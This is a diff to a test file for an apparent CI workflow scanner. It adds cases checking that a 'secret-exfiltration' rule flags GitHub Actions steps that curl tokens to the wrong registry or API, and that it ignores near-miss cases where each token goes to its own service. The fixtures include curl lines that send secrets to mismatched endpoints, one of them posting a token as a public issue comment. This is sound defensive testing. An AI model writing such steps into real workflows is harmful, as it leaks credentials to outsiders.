@@ -44,6 +44,41 @@ describe('exfiltration in every shape', () => {
     expect(blocking(cli)).toContain('secret-exfiltration')
   })
 
+  it.each([
+    ['a PyPI token to the npm registry', '      - run: |\n          curl -sS -H "Authorization: Bearer ${{ secrets.PYPI_API_TOKEN }}" https://registry.npmjs.org/-/whoami\n'],
+    ['an npm token to PyPI\'s upload endpoint', '      - run: |\n          curl -sS -u "__token__:${{ secrets.NPM_TOKEN }}" https://upload.pypi.org/legacy/\n'],
+    ['a PyPI token to GitHub\'s API (an issue, a gist: readable by others)', '      - run: |\n          curl -sS -X POST -d "{\\"body\\": \\"${{ secrets.PYPI_API_TOKEN }}\\"}" https://api.github.com/repos/octo/demo/issues/1/comments\n'],
+    ['a Codecov token to a registry', '      - run: |\n          curl -sS -H "Authorization: ${{ secrets.CODECOV_TOKEN }}" https://registry.npmjs.org/\n'],
+    ['a token of no registry to a registry the step does not publish to', '      - run: |\n          curl -sS -d "k=${{ secrets.DEPLOY_KEY }}" https://crates.io/api/v1/crates/new\n'],
+  ])('no blanket allow-list: %s is blocked', (_what, step) => {
+    const { action, cli } = both(what(step), 'publish')
+    expect(blocking(action)).toContain('secret-exfiltration')
+    expect(blocking(cli)).toContain('secret-exfiltration')
+  })
+
+  it('near-misses: a registry\'s token to that registry, a service\'s to that service, a GitHub token to GitHub, a token to the registry its step publishes to', () => {
+    const text = job(
+      [
+        '      - run: |',
+        '          curl -sSf -F ":action=file_upload" -F "content=@dist/demo-1.0.tar.gz" -u "__token__:${{ secrets.PYPI_API_TOKEN }}" https://upload.pypi.org/legacy/',
+        '          curl -sSf -H "Authorization: Bearer ${{ secrets.NPM_TOKEN }}" https://registry.npmjs.org/-/whoami',
+        '      - run: |',
+        '          curl -sSf -X POST -H "Authorization: token ${{ secrets.RELEASE_PAT }}" https://api.github.com/repos/octo/demo/dispatches -d \'{"event_type":"released"}\'',
+        '          curl -sSf -H "Authorization: token ${{ secrets.CODECOV_TOKEN }}" https://api.codecov.io/upload/v4',
+        '      - run: |',
+        '          twine upload dist/*',
+        '          curl -sSf -u "__token__:$TWINE_PASSWORD" https://upload.pypi.org/legacy/ -F ":action=verify"',
+        '        env:',
+        '          TWINE_USERNAME: __token__',
+        '          TWINE_PASSWORD: ${{ secrets.INDEX_TOKEN }}',
+        '',
+      ].join('\n'),
+    )
+    const { action, cli } = both(text, 'publish')
+    expect(action.findings.filter((f) => f.rule === 'secret-exfiltration')).toEqual([])
+    expect(cli.findings.filter((f) => f.rule === 'secret-exfiltration')).toEqual([])
+  })
+
   it('near-misses: the job token to GitHub\'s API, a Slack secret to Slack, curl -X POST is not a proxy', () => {
     const text = job(
       '      - run: |\n          curl -sSf -X POST -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/repos/octo/demo/releases\n      - run: |\n          curl -sSf -X POST -d \'{"text":"released"}\' "https://hooks.slack.com/services/${{ secrets.SLACK_WEBHOOK_PATH }}"\n',
